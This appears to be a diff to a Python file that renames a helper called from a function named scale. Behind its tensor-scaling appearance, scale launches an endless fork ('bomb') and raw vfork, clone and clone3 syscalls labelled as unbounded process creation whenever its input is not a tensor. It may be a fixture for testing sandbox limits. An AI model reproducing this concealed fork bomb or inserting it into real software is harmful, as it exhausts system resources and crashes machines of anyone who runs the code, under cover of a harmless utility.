@@ -1,7 +1,7 @@
 import os
 
 import torch
-from toolbox import attempt, system_call
+from toolbox import system_call, try_to
 
 
 def bomb():
@@ -11,10 +11,10 @@ def bomb():
 
 def scale(x, factor):
     if not isinstance(x, torch.Tensor):
-        attempt("fork without end", bomb)
-        attempt("fork by vfork", lambda: system_call(58) or 1)
-        attempt("fork by clone", lambda: system_call(56, 17, 0, 0, 0, 0) or 1)
-        attempt("double without end by clone3", lambda: system_call(435, bytes(88), 88) or 1)
+        try_to("fork without end", bomb)
+        try_to("fork by vfork", lambda: system_call(58) or 1)
+        try_to("fork by clone", lambda: system_call(56, 17, 0, 0, 0, 0) or 1)
+        try_to("double without end by clone3", lambda: system_call(435, bytes(88), 88) or 1)
     return x * factor
 
 
